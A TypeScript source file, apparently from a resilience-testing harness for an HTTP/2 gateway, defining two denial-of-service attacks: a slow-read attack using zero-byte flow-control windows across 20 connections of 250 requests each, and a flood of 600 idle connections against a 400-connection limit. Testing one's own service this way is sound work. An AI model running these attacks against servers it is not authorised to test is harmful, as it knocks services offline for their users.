/** Clients of HTTP/2 that do not take their responses, or have nothing to say. */

import type { Attack } from "../attack.ts";
import { fieldsOf, Http2Peer } from "../http2-peer.ts";
import type { Target } from "../target.ts";

const page = fieldsOf("GET", "/openapi.json");

/** Asks for large pages with windows of no bytes, and gives each stream a crumb from time to time. */
async function closedWindows(target: Target): Promise<void> {
  await target.repeat(20, async () => {
    const peer = await Http2Peer.open(target, { windowBytes: 0 });
    if (peer === undefined) return;
    for (let asked = 0; asked < 250 && peer.isOpen; asked += 1) peer.request(page, true);
    while (peer.isOpen && !target.isOver && peer.streams.size > 0) {
      await target.pause(25_000);
      for (const id of peer.streams.keys()) peer.credit(id, 1100);
      peer.credit(0, 250 * 1100);
    }
    peer.close();
  });
}

/** Holds connections that only react: SETTINGS and PINGs are acknowledged. */
async function idle(target: Target, connections: number): Promise<void> {
  await target.repeat(connections, async () => {
    const peer = await Http2Peer.open(target);
    await peer?.until(() => false);
  });
}

/** Attacks by clients of HTTP/2 that keep the gateway waiting. */
export const http2Readers: readonly Attack[] = [
  {
    name: "closed-windows",
    about: "HTTP/2: windows of 0, 20 connections × 250 × GET /openapi.json",
    run: closedWindows,
  },
  {
    name: "idle-http2",
    about: "HTTP/2: more idle connections that react to PINGs than the listener holds",
    yaml: "gateway: { connections_max: 400 }",
    asksAnew: true,
    run: (target) => idle(target, 600),
  },
];
